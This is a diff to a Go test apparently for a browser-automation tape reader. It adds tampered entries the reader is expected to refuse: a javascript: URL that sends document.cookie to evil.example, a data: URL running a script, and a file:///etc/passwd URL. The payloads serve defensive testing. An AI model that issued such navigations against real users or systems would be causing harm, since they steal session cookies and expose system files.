@@ -107,6 +107,9 @@ var tamperedLines = []struct{ line, want string }{
 	{`{"seq":14,"action":"fill_form","ok":false,"locators":["getByTestId('x')"],"params":{"action":"fill_form","fields":[{"target":"e1","value":"v","kind":"eval()"}]}}`, "params.fields[0].kind"},
 	{`{"seq":15,"action":"click","ok":true,"locator":"getByTestId('x')","locators":["getByTestId('x')"]}`, "locators on a click entry"},
 	{`{"seq":16,"action":"fill_form","ok":true,"locators":["getByTestId('x')"],"params":{"action":"fill_form","fields":[{"target":"//input","value":"v"}]}}`, "params.fields[0].target"},
+	{`{"seq":17,"action":"navigate","ok":true,"params":{"action":"navigate","url":"javascript:fetch('//evil.example/'+document.cookie)"}}`, "navigate to a javascript: URL"},
+	{`{"seq":18,"action":"navigate","ok":true,"params":{"action":"navigate","url":"data:text/html,<script>PWNED()</script>"}}`, "navigate to a data: URL"},
+	{`{"seq":19,"action":"navigate","ok":true,"url":"FILE:///etc/passwd","params":{"action":"navigate"}}`, "navigate to a file: URL"},
 }
 
 func TestReadTapeRefusesTamperedEntries(t *testing.T) {
